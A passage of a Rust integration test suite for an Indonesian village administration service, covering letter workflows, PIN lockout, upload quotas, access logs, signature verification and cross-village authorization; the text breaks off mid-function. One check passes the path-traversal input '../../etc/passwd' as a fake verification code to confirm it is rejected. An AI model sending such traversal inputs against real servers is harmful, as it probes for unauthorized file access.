//! Letters and the villager portal over HTTP: the life of a request, numbering under
//! concurrency, the villager's limits, templates, verification and its offline check.

use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use base64::Engine;
use ed25519_dalek::{Signature, VerifyingKey};
use reqwest::StatusCode;
use serde_json::{json, Value};
use sha2::Digest;

use crate::on_both_backends;
use crate::support::{assert_problem, nik, png_header_only, resident, TestApp, PASSWORD};

pub(crate) const A: &str = "kramatwatu";
pub(crate) const B: &str = "pejaten";

pub(crate) fn path(desa: &str, rest: &str) -> String {
    format!("/api/v1/desa/{desa}/{rest}")
}

/// Desa A with an admin, an operator and a family of three (father heads it); B with an admin.
pub(crate) struct World {
    pub admin: String,
    pub operator: String,
    pub other_admin: String,
    pub people: Vec<Value>,
}

pub(crate) async fn world(app: &TestApp) -> World {
    let admin = app.desa_admin("admin.a", A).await;
    app.create_desa_user("operator.a", "desa_operator", A).await;
    let operator = app.token("operator.a", PASSWORD).await;
    let other_admin = app.desa_admin("admin.b", B).await;
    let mut people = Vec::new();
    for (born, female, name, serial) in [
        ("1980-03-04", false, "Ahmad Fauzi", 1),
        ("1984-07-21", true, "Siti Aminah", 2),
        ("2004-01-15", false, "Rizki Fauzi", 3),
        ("1990-05-05", false, "Budi Tetangga", 4),
    ] {
        let mut body = resident(&nik(born, female, serial), name, female, born);
        if serial == 1 {
            body["email"] = json!("ahmad@example.test");
        }
        people.push(app.add_resident(A, &admin, &body).await);
    }
    let res = app
        .post(
            &path(A, "families"),
            Some(&admin),
            &json!({"no_kk": "3604051203150007", "head_id": people[0]["id"], "address": "Kp. Krajan"}),
        )
        .await;
    let fam: Value = res.json().await.unwrap();
    for (i, shdk) in [(1, 3), (2, 4)] {
        let res = app
            .post(
                &path(
                    A,
                    &format!("families/{}/members", fam["id"].as_str().unwrap()),
                ),
                Some(&admin),
                &json!({"resident_id": people[i]["id"], "shdk": shdk}),
            )
            .await;
        assert_eq!(res.status(), StatusCode::OK);
    }
    World {
        admin,
        operator,
        other_admin,
        people,
    }
}

/// Issues a PIN to the resident; returns it.
async fn issue_pin(app: &TestApp, staff: &str, person: &Value) -> String {
    let issued = app
        .post(
            &path(
                A,
                &format!("residents/{}/pin", person["id"].as_str().unwrap()),
            ),
            Some(staff),
            &json!({}),
        )
        .await;
    assert_eq!(issued.status(), StatusCode::OK);
    let issued: Value = issued.json().await.unwrap();
    let pin = issued["pin"].as_str().unwrap().to_string();
    assert_eq!(pin.len(), 6);
    pin
}

/// Issues a PIN to the resident and signs in with it; returns the villager's token.
pub(crate) async fn villager(app: &TestApp, staff: &str, person: &Value) -> String {
    let pin = issue_pin(app, staff, person).await;
    let res = app
        .post(
            &path(A, "auth/warga"),
            None,
            &json!({"nik": person["nik"], "pin": pin}),
        )
        .await;
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["user"]["role"], "warga", "{body}");
    body["token"].as_str().unwrap().to_string()
}

/// Changes the desa's letter settings.
pub(crate) async fn put_settings(app: &TestApp, token: &str, body: &Value) -> reqwest::Response {
    app.send_json(
        reqwest::Method::PUT,
        &path(A, "letter-settings"),
        Some(token),
        body,
    )
    .await
}

pub(crate) async fn transition(
    app: &TestApp,
    token: &str,
    id: &str,
    to: &str,
) -> reqwest::Response {
    app.post(
        &path(A, &format!("letter-requests/{id}/transition")),
        Some(token),
        &json!({"to": to}),
    )
    .await
}

pub(crate) async fn moved(app: &TestApp, token: &str, id: &str, to: &str) -> Value {
    let res = transition(app, token, id, to).await;
    let status = res.status();
    let body: Value = res.json().await.unwrap();
    assert_eq!(status, StatusCode::OK, "{to}: {body}");
    assert_eq!(body["status"], to);
    body
}

pub(crate) async fn status_of(app: &TestApp, token: &str, id: &str) -> Value {
    app.get_ok(&path(A, &format!("letter-requests/{id}")), Some(token))
        .await["status"]
        .clone()
}

/// A 1x1 PNG image.
pub const PNG: &[u8] = &[
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4,
    0x89, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0x00, 0x01, 0x00, 0x00,
    0x05, 0x00, 0x01, 0x0d, 0x0a, 0x2d, 0xb4, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae,
    0x42, 0x60, 0x82,
];

pub(crate) async fn upload(
    app: &TestApp,
    token: &str,
    id: &str,
    kind: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    app.client
        .post(app.url(&path(
            A,
            &format!("letter-requests/{id}/documents?kind={kind}"),
        )))
        .bearer_auth(token)
        .header("content-type", "image/jpeg")
        .body(bytes)
        .send()
        .await
        .unwrap()
}

/// A villager's new domicile request (documents still to come); its id.
pub(crate) async fn domicile_request(app: &TestApp, warga: &str) -> String {
    let res = app
        .post(
            &path(A, "letter-requests"),
            Some(warga),
            &json!({"type": "domisili", "purpose": "Melamar pekerjaan"}),
        )
        .await;
    let body: Value = res.json().await.unwrap();
    assert_eq!(body["status"], "belum_lengkap", "{body}");
    body["id"].as_str().unwrap().to_string()
}

/// A domicile request by the villager, its documents uploaded, submitted and checked:
/// waiting for signature.
async fn checked_request(app: &TestApp, w: &World, warga: &str) -> String {
    let id = domicile_request(app, warga).await;
    // Without its documents the request cannot go to be checked.
    let res = transition(app, warga, &id, "sedang_diperiksa").await;
    let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
    assert_eq!(body["errors"][0]["field"], "documents");
    for kind in ["KTP", "Kartu%20Keluarga"] {
        let res = upload(app, warga, &id, kind, PNG.to_vec()).await;
        assert_eq!(res.status(), StatusCode::CREATED, "{kind}");
    }
    moved(app, warga, &id, "sedang_diperiksa").await;
    moved(app, &w.operator, &id, "menunggu_tanda_tangan").await;
    id
}

on_both_backends!(
    uploads_stay_within_the_uploader_quota,
    a_former_family_member_no_longer_sees_the_others_letters,
    list_and_search_reads_reach_who_saw_my_data,
);

/// (actor, action) of each entry of the villager's "who saw my data".
async fn seen_by(app: &TestApp, warga: &str) -> Vec<(String, String)> {
    app.get_ok(&path(A, "warga/me/access-log?per_page=100"), Some(warga))
        .await["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["actor_username"].as_str().unwrap().to_string(),
                e["action"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

/// A list or search page, as JSON or HTML, a family list that shows the villager's card, her
/// signed letter and its scans: each is in the villager's "who saw my data"; a search that does not show them is not, and
/// another desa's staff see nothing of A and leave nothing in A's log.
async fn list_and_search_reads_reach_who_saw_my_data(app: TestApp) {
    let w = world(&app).await;
    let warga = villager(&app, &w.admin, &w.people[1]).await;
    let before = seen_by(&app, &warga).await;
    let count = |log: &[(String, String)], action: &str| {
        log.iter()
            .filter(|(who, what)| who == "operator.a" && what == action)
            .count()
    };
    app.get_ok(&path(A, "residents"), Some(&w.operator)).await;
    app.get_ok(&path(A, "residents?q=siti"), Some(&w.operator))
        .await;
    app.get_ok(&path(A, "residents?q=budi"), Some(&w.operator))
        .await;
    let page = app
        .client
        .get(app.url(&format!("/desa/{A}/admin/penduduk")))
        .bearer_auth(&w.operator)
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), StatusCode::OK);
    app.get_ok(&path(A, "families"), Some(&w.operator)).await;
    let res = app.get(&path(A, "residents"), Some(&w.other_admin)).await;
    assert_problem(res, StatusCode::FORBIDDEN).await;

    let after = seen_by(&app, &warga).await;
    assert_eq!(count(&before, "resident.list"), 0);
    // The plain list, the search for her name and the page; not the search for Budi.
    assert_eq!(count(&after, "resident.list"), 3, "{after:?}");
    // Her family card on the family list.
    assert_eq!(count(&after, "family.list"), 1, "{after:?}");
    assert!(after.iter().all(|(who, _)| who != "admin.b"));

    // Her letter and the scans it came with, opened by the operator.
    let id = checked_request(&app, &w, &warga).await;
    moved(&app, &w.admin, &id, "siap_diambil").await;
    let pdf = app
        .get(&path(A, &format!("letters/{id}/pdf")), Some(&w.operator))
        .await;
    assert_eq!(pdf.status(), StatusCode::OK);
    let detail = app
        .get_ok(
            &path(A, &format!("letter-requests/{id}")),
            Some(&w.operator),
        )
        .await;
    let doc = detail["documents"][0]["id"].as_str().unwrap();
    let scan = app
        .get(
            &path(A, &format!("letter-requests/{id}/documents/{doc}")),
            Some(&w.operator),
        )
        .await;
    assert_eq!(scan.status(), StatusCode::OK);
    let log = seen_by(&app, &warga).await;
    assert_eq!(count(&log, "letter.pdf"), 1, "{log:?}");
    assert_eq!(count(&log, "letter.document.view"), 1, "{log:?}");

    // The books: the month's page (she was entered this month), and the Buku Mutasi once she
    // has an event in it.
    let books = app
        .client
        .get(app.url(&format!("/desa/{A}/admin/buku")))
        .bearer_auth(&w.operator)
        .send()
        .await
        .unwrap();
    assert_eq!(books.status(), StatusCode::OK);
    let log = seen_by(&app, &warga).await;
    assert_eq!(count(&log, "book.view"), 1, "{log:?}");
    // (Reported missing, her account closes: the desa's log shows the rest.)
    let today = sid_core::clock::today().to_string();
    let res = app
        .post(
            &path(A, "events"),
            Some(&w.admin),
            &json!({"kind": "missing", "resident_id": w.people[1]["id"], "date": today}),
        )
        .await;
    assert!(res.status().is_success(), "{}", res.text().await.unwrap());
    app.get_ok(&path(A, "events"), Some(&w.operator)).await;
    let her = w.people[1]["id"].as_str().unwrap();
    let entries = app
        .get_ok(&path(A, &format!("audit?target={her}")), Some(&w.admin))
        .await;
    let mutasi = entries["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "book.mutasi" && e["actor_username"] == "operator.a")
        .count();
    assert_eq!(mutasi, 1, "{entries}");
}

/// Ids of the requests a villager's list shows.
async fn listed(app: &TestApp, warga: &str) -> Vec<String> {
    app.get_ok(&path(A, "letter-requests"), Some(warga)).await["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect()
}

/// A villager's SKCK request about `about`; its id.
async fn ask_skck(app: &TestApp, token: &str, about: &Value) -> String {
    let body = json!({"type": "skck", "purpose": "Melamar kerja", "subject_id": about["id"]});
    let res = app
        .post(&path(A, "letter-requests"), Some(token), &body)
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    res.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string()
}

/// Father and son ask letters for each other; once the son heads a card of his own, each
/// still sees the letter about himself, and neither the one he asked about the other.
async fn a_former_family_member_no_longer_sees_the_others_letters(app: TestApp) {
    let w = world(&app).await;
    let (father, son) = (&w.people[0], &w.people[2]);
    let father_token = villager(&app, &w.admin, father).await;
    let son_token = villager(&app, &w.admin, son).await;
    let for_son = ask_skck(&app, &father_token, son).await;
    let for_father = ask_skck(&app, &son_token, father).await;
    for token in [&father_token, &son_token] {
        let mut seen = listed(&app, token).await;
        seen.sort();
        let mut both = vec![for_son.clone(), for_father.clone()];
        both.sort();
        assert_eq!(seen, both);
    }

    let family = app
        .get_ok(
            &path(A, &format!("residents/{}", father["id"].as_str().unwrap())),
            Some(&w.admin),
        )
        .await["family_id"]
        .as_str()
        .unwrap()
        .to_string();
    let res = app
        .post(
            &path(A, &format!("families/{family}/split")),
            Some(&w.admin),
            &json!({"no_kk": "3604051203150099", "head_id": son["id"]}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::OK);

    for (token, about_me, about_other) in [
        (&father_token, &for_father, &for_son),
        (&son_token, &for_son, &for_father),
    ] {
        assert_eq!(listed(&app, token).await, std::slice::from_ref(about_me));
        let detail = app
            .get_ok(
                &path(A, &format!("letter-requests/{about_me}")),
                Some(token),
            )
            .await;
        assert_eq!(detail["id"], about_me.as_str());
        let res = app
            .get(
                &path(A, &format!("letter-requests/{about_other}")),
                Some(token),
            )
            .await;
        assert_problem(res, StatusCode::NOT_FOUND).await;
    }
    // The staff still see both.
    let all = app
        .get_ok(&path(A, "letter-requests"), Some(&w.operator))
        .await;
    assert_eq!(all["total"], 2);
}

/// A villager keeps at most 20 MiB of documents: the eleventh full-size scan is refused with
/// the reason, nothing of it kept; the staff's own uploads count apart.
async fn uploads_stay_within_the_uploader_quota(app: TestApp) {
    let w = world(&app).await;
    let warga = villager(&app, &w.admin, &w.people[0]).await;
    let id = domicile_request(&app, &warga).await;
    let mut scan = PNG.to_vec();
    scan.resize(2 * 1024 * 1024, 0);
    for n in 0..10 {
        let res = upload(&app, &warga, &id, "KTP", scan.clone()).await;
        assert_eq!(res.status(), StatusCode::CREATED, "scan {n}");
    }
    let res = upload(&app, &warga, &id, "KTP", PNG.to_vec()).await;
    let problem = assert_problem(res, StatusCode::PAYLOAD_TOO_LARGE).await;
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("Kuota berkas akun ini (20 MiB)"),
        "{problem}"
    );
    let detail = app
        .get_ok(&path(A, &format!("letter-requests/{id}")), Some(&warga))
        .await;
    assert_eq!(detail["documents"].as_array().unwrap().len(), 10);
    // Another villager of the same desa has a quota of their own.
    let neighbour = villager(&app, &w.admin, &w.people[3]).await;
    let theirs = domicile_request(&app, &neighbour).await;
    let res = upload(&app, &neighbour, &theirs, "KTP", PNG.to_vec()).await;
    assert_eq!(res.status(), StatusCode::CREATED);
}

on_both_backends!(
    staff_pages_for_walk_ins_and_the_queue,
    villagers_see_their_data_and_who_viewed_it,
    documents_are_judged_by_content_and_size,
    a_request_lives_from_the_portal_to_a_verified_letter,
    illegal_moves_are_refused_and_change_nothing,
    villagers_stay_within_their_family_and_pins_lock,
    templates_and_number_formats_are_checked_when_saved,
    a_hundred_letters_signed_at_once_are_numbered_1_to_100,
    the_agenda_csv_hands_a_spreadsheet_no_formula,
    download_names_keep_to_safe_characters,
    concurrent_wrong_pins_all_count,
);

async fn a_request_lives_from_the_portal_to_a_verified_letter(app: TestApp) {
    let w = world(&app).await;
    let types = app.get_ok(&path(A, "letter-types"), None).await;
    assert_eq!(types.as_array().unwrap().len(), 12);
    let warga = villager(&app, &w.operator, &w.people[0]).await;
    let id = checked_request(&app, &w, &warga).await;
    let signed = moved(&app, &w.admin, &id, "siap_diambil").await;
    let year = sid_core::clock::today().format("%Y").to_string();
    let number = signed["number"].as_str().unwrap();
    assert!(number.starts_with("470/001/36.04.05.2001/"), "{number}");
    assert!(number.ends_with(&format!("/{year}")), "{number}");
    assert_eq!(signed["sequence_no"], 1);
    let history: Vec<&str> = signed["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["to_status"].as_str().unwrap())
        .collect();
    assert_eq!(
        history,
        [
            "belum_lengkap",
            "sedang_diperiksa",
            "menunggu_tanda_tangan",
            "siap_diambil"
        ]
    );

    // The villager downloads the PDF; every download is the same bytes, the hash recorded.
    let pdf_path = path(A, &format!("letters/{id}/pdf"));
    let first = app.get(&pdf_path, Some(&warga)).await;
    assert_eq!(first.status(), StatusCode::OK);
    assert_eq!(first.headers()["content-type"], "application/pdf");
    let first = first.bytes().await.unwrap();
    assert!(first.starts_with(b"%PDF"));
    let again = app
        .get(&pdf_path, Some(&w.operator))
        .await
        .bytes()
        .await
        .unwrap();
    assert_eq!(first, again);
    let hash: String = sha2::Sha256::digest(&first)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert_eq!(signed["pdf_sha256"], hash);

    // Anyone verifies the code: valid, the subject's name masked.
    let code = signed["verify_code"].as_str().unwrap();
    let v = app.get_ok(&format!("/api/v1/verify/{code}"), None).await;
    assert_eq!(v["status"], "valid");
    assert_eq!(v["number"], number);
    assert_eq!(v["desa"], "Kramatwatu");
    assert_eq!(v["subject"], "A**** F****");
    assert_eq!(v["signature_valid"], true);
    // A tampered or made-up code finds nothing.
    let mut tampered = code.to_string();
    let last = tampered.pop().unwrap();
    tampered.push(if last == 'A' { 'B' } else { 'A' });
    for bad in [tampered.as_str(), "1", "../../etc/passwd"] {
        let res = app.get(&format!("/api/v1/verify/{bad}"), None).await;
        assert_eq!(res.status(), StatusCode::NOT_FOUND, "{bad}");
    }

    // Offline: the statement and signature check against the published key, and fail after
    // one byte of the statement changes.
    let key = app.get_ok(&path(A, "letters/public-key"), None).await;
    let key: [u8; 32] = B64
        .decode(key["public_key"].as_str().unwrap())
        .unwrap()
        .try_into()
        .unwrap();
    let key = VerifyingKey::from_bytes(&key).unwrap();
    let statement = signed["signed_statement"]
        .as_str()
        .unwrap()
        .as_bytes()
        .to_vec();
    let signature: [u8; 64] = B64
        .decode(signed["signature"].as_str().unwrap())
        .unwrap()
        .try_into()
        .unwrap();
    let signature = Signature::from_bytes(&signature);
    assert!(key.verify_strict(&statement, &signature).is_ok());
    assert!(String::from_utf8_lossy(&statement).contains(number));
    let mut changed = statement.clone();
    changed[20] ^= 1;
    assert!(key.verify_strict(&changed, &signature).is_err());

    // Handed over, then revoked: the check says revoked.
    moved(&app, &w.operator, &id, "sudah_diambil").await;
    let res = app
        .post(
            &path(A, &format!("letters/{id}/revoke")),
            Some(&w.operator),
            &json!({"reason": "Salah ketik"}),
        )
        .await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = app
        .post(
            &path(A, &format!("letters/{id}/revoke")),
            Some(&w.admin),
            &json!({"reason": "Data alamat keliru"}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::NO_CONTENT);
    let v = app.get_ok(&format!("/api/v1/verify/{code}"), None).await;
    assert_eq!(v["status"], "revoked");
    assert_eq!(v["revoked_reason"], "Data alamat keliru");

    // The Agenda Surat Keluar lists it; B's staff cannot read A's agenda, letters or keys' use.
    let agenda = app.get_ok(&path(A, "letters"), Some(&w.operator)).await;
    assert_eq!(agenda["total"], 1);
    assert_eq!(agenda["items"][0]["number"], number);
    assert_eq!(agenda["items"][0]["revoked"], true);
    let csv = app
        .get(&path(A, "letters?format=csv"), Some(&w.admin))
        .await
        .text()
        .await
        .unwrap();
    assert!(csv.contains(number) && csv.contains("Ahmad Fauzi"), "{csv}");
    let page = app
        .get(
            &format!("/desa/{A}/admin/surat/agenda?type=domisili"),
            Some(&w.operator),
        )
        .await
        .text()
        .await
        .unwrap();
    assert!(
        page.contains(number) && page.contains("(dicabut)"),
        "{page}"
    );
    let other = app
        .get(
            &format!("/desa/{A}/admin/surat/agenda?type=usaha"),
            Some(&w.operator),
        )
        .await
        .text()
        .await
        .unwrap();
    assert!(other.contains("agenda-empty"));
    let res = app
        .get(
            &format!("/desa/{A}/admin/surat/agenda"),
            Some(&w.other_admin),
        )
        .await;
    assert_eq!(res.status(), StatusCode::FORBIDDEN);
    for p in [
        path(A, "letters"),
        path(A, "letter-requests"),
        path(A, &format!("letter-requests/{id}")),
        pdf_path.clone(),
    ] {
        let res = app.get(&p, Some(&w.other_admin)).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{p}");
    }
    for p in [
        path(B, &format!("letter-requests/{id}")),
        path(B, &format!("letters/{id}/pdf")),
    ] {
        let res = app.get(&p, Some(&w.other_admin)).await;
        assert_eq!(res.status(), StatusCode::NOT_FOUND, "{p}");
    }
}

async fn staff_pages_for_walk_ins_and_the_queue(app: TestApp) {
    let w = world(&app).await;
    let rid = w.people[3]["id"].as_str().unwrap();
    let pick = format!("/desa/{A}/admin/surat/baru?subject={rid}");
    let page = app.get(&pick, Some(&w.operator)).await;
    assert_eq!(page.status(), StatusCode::OK);
    let html = page.text().await.unwrap();
    assert!(
        html.contains("Surat Keterangan Usaha") && html.contains(rid),
        "{html}"
    );
    let form = app
        .get(&format!("{pick}&type=usaha"), Some(&w.operator))
        .await
        .text()
        .await
        .unwrap();
    assert!(form.contains("fields.nama_usaha") && form.contains("Budi Tetangga"));
    for p in [pick.clone(), format!("/desa/{A}/admin/surat")] {
        let res = app.get(&p, Some(&w.other_admin)).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{p}");
    }
    // B's own walk-in page does not show A's resident.
    let res = app
        .get(
            &format!("/desa/{B}/admin/surat/baru?subject={rid}"),
            Some(&w.other_admin),
        )
        .await;
    assert_eq!(res.status(), StatusCode::NOT_FOUND);
    let queue = app
        .get(
            &format!("/desa/{A}/admin/surat?status=sedang_diperiksa"),
            Some(&w.operator),
        )
        .await;
    assert_eq!(queue.status(), StatusCode::OK);
    assert!(queue.text().await.unwrap().contains("queue-empty"));
}

async fn illegal_moves_are_refused_and_change_nothing(app: TestApp) {
    let w = world(&app).await;
    let warga = villager(&app, &w.admin, &w.people[0]).await;
    let id = domicile_request(&app, &warga).await;
    // Signing a Belum Lengkap: conflict.
    let res = transition(&app, &w.admin, &id, "siap_diambil").await;
    assert_problem(res, StatusCode::CONFLICT).await;
    assert_eq!(status_of(&app, &w.admin, &id).await, "belum_lengkap");
    for kind in ["KTP", "Kartu%20Keluarga"] {
        upload(&app, &warga, &id, kind, PNG.to_vec()).await;
    }
    moved(&app, &warga, &id, "sedang_diperiksa").await;
    // The villager checks or signs their own request: forbidden.
    for to in ["menunggu_tanda_tangan", "ditolak"] {
        let res = transition(&app, &warga, &id, to).await;
        assert_problem(res, StatusCode::FORBIDDEN).await;
    }
    moved(&app, &w.operator, &id, "menunggu_tanda_tangan").await;
    for token in [&warga, &w.operator] {
        let res = transition(&app, token, &id, "siap_diambil").await;
        assert_problem(res, StatusCode::FORBIDDEN).await;
    }
    // Desa B's staff on A's request: forbidden on A's route, unknown on B's.
    let res = transition(&app, &w.other_admin, &id, "siap_diambil").await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = app
        .post(
            &path(B, &format!("letter-requests/{id}/transition")),
            Some(&w.other_admin),
            &json!({"to": "siap_diambil"}),
        )
        .await;
    assert_problem(res, StatusCode::NOT_FOUND).await;
    // Refusing needs a reason; an unknown status is a bad input.
    let res = transition(&app, &w.operator, &id, "ditolak").await;
    let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
    assert_eq!(body["errors"][0]["field"], "reason");
    let res = transition(&app, &w.operator, &id, "disetujui").await;
    assert_problem(res, StatusCode::BAD_REQUEST).await;
    assert_eq!(
        status_of(&app, &w.admin, &id).await,
        "menunggu_tanda_tangan"
    );
    let unsigned = app
        .get_ok(&path(A, &format!("letter-requests/{id}")), Some(&w.admin))
        .await;
    assert!(unsigned["number"].is_null());
    // Rejected with a reason, then nothing moves it any more.
    let res = app
        .post(
            &path(A, &format!("letter-requests/{id}/transition")),
            Some(&w.operator),
            &json!({"to": "ditolak", "reason": "Bukan warga RT ini"}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::OK);
    for to in ["siap_diambil", "sedang_diperiksa", "dibatalkan"] {
        let res = transition(&app, &w.admin, &id, to).await;
        assert_problem(res, StatusCode::CONFLICT).await;
    }
    let after = app
        .get_ok(&path(A, &format!("letter-requests/{id}")), Some(&w.admin))
        .await;
    assert_eq!(after["status"], "ditolak");
    assert_eq!(after["reason"], "Bukan warga RT ini");
    assert_eq!(after["history"].as_array().unwrap().len(), 4);
    // The villager was mailed about each move.
    let queued = app
        .state
        .db
        .global_read(|conn| {
            use diesel::prelude::*;
            use sid_core::schema::mail_outbox::dsl::*;
            Ok(mail_outbox
                .filter(recipient.eq("ahmad@example.test"))
                .count()
                .get_result::<i64>(conn)?)
        })
        .await
        .unwrap();
    assert_eq!(queued, 3);
}

async fn villagers_stay_within_their_family_and_pins_lock(app: TestApp) {
    let w = world(&app).await;
    let warga = villager(&app, &w.admin, &w.people[0]).await;
    // For the son: fine; for the neighbour outside the family: refused, nothing created.
    let res = app
        .post(
            &path(A, "letter-requests"),
            Some(&warga),
            &json!({"type": "skck", "purpose": "Melamar kerja", "subject_id": w.people[2]["id"]}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    let res = app
        .post(
            &path(A, "letter-requests"),
            Some(&warga),
            &json!({"type": "skck", "purpose": "Melamar kerja", "subject_id": w.people[3]["id"]}),
        )
        .await;
    let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
    assert_eq!(body["errors"][0]["field"], "subject_id");
    // Missing required fields of the type, an unknown field, an unknown type.
    for (req, field) in [
        (
            json!({"type": "usaha", "purpose": "Modal"}),
            "fields.nama_usaha",
        ),
        (
            json!({"type": "domisili", "purpose": "x", "fields": {"warna": "biru"}}),
            "fields.warna",
        ),
        (json!({"type": "sulap", "purpose": "x"}), "type"),
        (json!({"type": "domisili", "purpose": ""}), "purpose"),
    ] {
        let res = app
            .post(&path(A, "letter-requests"), Some(&warga), &req)
            .await;
        let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
        assert_eq!(body["errors"][0]["field"], field, "{req}");
    }
    let mine = app.get_ok(&path(A, "letter-requests"), Some(&warga)).await;
    assert_eq!(mine["total"], 1);
    // Another villager sees none of it.
    let neighbour = villager(&app, &w.admin, &w.people[3]).await;
    let theirs = app
        .get_ok(&path(A, "letter-requests"), Some(&neighbour))
        .await;
    assert_eq!(theirs["total"], 0);
    let id = mine["items"][0]["id"].as_str().unwrap();
    let res = app
        .get(&path(A, &format!("letter-requests/{id}")), Some(&neighbour))
        .await;
    assert_problem(res, StatusCode::NOT_FOUND).await;
    // A villager's token is no staff token, and no token for desa B.
    for p in [path(A, "residents"), path(B, "letter-requests")] {
        let res = app.get(&p, Some(&warga)).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{p}");
    }

    // Desa B's staff issue no PIN for A's residents.
    let rid = w.people[3]["id"].as_str().unwrap();
    let res = app
        .post(
            &path(A, &format!("residents/{rid}/pin")),
            Some(&w.other_admin),
            &json!({}),
        )
        .await;
    assert_problem(res, StatusCode::FORBIDDEN).await;
    let res = app
        .post(
            &path(B, &format!("residents/{rid}/pin")),
            Some(&w.other_admin),
            &json!({}),
        )
        .await;
    assert_problem(res, StatusCode::NOT_FOUND).await;

    // A dead resident cannot sign in; the reply is the one an unknown NIK gets.
    let mother = &w.people[1];
    let pin = issue_pin(&app, &w.admin, mother).await;
    let session = app
        .post(
            &path(A, "auth/warga"),
            None,
            &json!({"nik": mother["nik"], "pin": pin}),
        )
        .await
        .json::<Value>()
        .await
        .unwrap()["token"]
        .as_str()
        .unwrap()
        .to_string();
    let res = app
        .post(
            &path(A, "events"),
            Some(&w.admin),
            &json!({"kind": "death", "resident_id": mother["id"], "date": "2026-01-02", "cause": "Sakit", "place": "Serang"}),
        )
        .await;
    assert_eq!(res.status(), StatusCode::CREATED);
    // Her session ended with the death; the desa issues no PIN to a dead resident.
    let res = app.get(&path(A, "warga/me"), Some(&session)).await;
    assert_problem(res, StatusCode::UNAUTHORIZED).await;
    let res = app
        .post(
            &path(
                A,
                &format!("residents/{}/pin", mother["id"].as_str().unwrap()),
            ),
            Some(&w.admin),
            &json!({}),
        )
        .await;
    assert_problem(res, StatusCode::BAD_REQUEST).await;
    let dead = app
        .post(
            &path(A, "auth/warga"),
            None,
            &json!({"nik": mother["nik"], "pin": pin}),
        )
        .await;
    let dead = assert_problem(dead, StatusCode::UNAUTHORIZED).await;
    let unknown = app
        .post(
            &path(A, "auth/warga"),
            None,
            &json!({"nik": "3604050101900099", "pin": pin}),
        )
        .await;
    let unknown = assert_problem(unknown, StatusCode::UNAUTHORIZED).await;
    assert_eq!(dead["detail"], unknown["detail"]);

    // Five wrong PINs lock the NIK for 15 minutes, even against the right PIN.
    let son = &w.people[2];
    let pin = issue_pin(&app, &w.admin, son).await;
    let wrong = if pin == "914276" { "914275" } else { "914276" };
    for _ in 0..5 {
        let res = app
            .post(
                &path(A, "auth/warga"),
                None,
                &json!({"nik": son["nik"], "pin": wrong}),
            )
            .await;
        assert!(matches!(
            res.status(),
            StatusCode::UNAUTHORIZED | StatusCode::TOO_MANY_REQUESTS
        ));
    }
    let res = app
        .post(
            &path(A, "auth/warga"),
            None,
            &json!({"nik": son["nik"], "pin": pin}),
        )
        .await;
    assert_problem(res, StatusCode::TOO_MANY_REQUESTS).await;
    // The desa resets the PIN: the lock lifts, the new PIN works, and the villager changes it.
    let token = villager(&app, &w.admin, son).await;
    for (new_pin, ok) in [
        ("111111", false),
        ("123456", false),
        ("12345", false),
        ("730419", true),
    ] {
        let res = app
            .post(
                &path(A, "auth/warga/pin"),
                Some(&token),
                &json!({"current_pin": "000000", "new_pin": new_pin}),
            )
            .await;
        let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
        let field = if ok { "current_pin" } else { "new_pin" };
        assert_eq!(body["errors"][0]["field"], field, "{new_pin}");
    }
}

async fn templates_and_number_formats_are_checked_when_saved(app: TestApp) {
    let w = world(&app).await;
    let put = |code: &str, body: Value, token: String| {
        let app = &app;
        let p = path(A, &format!("letter-types/{code}"));
        async move {
            app.send_json(reqwest::Method::PUT, &p, Some(&token), &body)
                .await
        }
    };
    let res = put(
        "domisili",
        json!({"template": "Nama: [nama]\n\nUmur: [umur] tahun, hobi [hobi]"}),
        w.admin.clone(),
    )
    .await;
    let body = assert_problem(res, StatusCode::BAD_REQUEST).await;
    assert_eq!(body["errors"][0]["field"], "template");
    let message = body["errors"][0]["message"].as_str().unwrap();
    assert!(
        message.contains("[umur]") && message.contains("[hobi]"),
        "{message}"
    );
    // The operator may not edit types; B's admin may not edit A's.
    for token in [&w.operator, &w.other_admin] {
        let res = put("domisili", json!({"enabled": false}), token.clone()).await;
        assert_problem(res, StatusCode::FORBIDDEN).await;
    }
    let types = app.get_ok(&path(A, "letter-types"), None).await;
    let domisili = &types.as_array().unwrap()[0];
    assert_eq!(domisili["customized"], false);
    assert_eq!(domisili["enabled"], true);
    // A template with the type's own and common placeholders is kept; a disabled type is not
    // offered.
    let res = put(
        "usaha",
        json!({"template": "[nama] ([nik]) berusaha [nama_usaha] untuk [keperluan]."}),
        w.admin.clone(),
    )
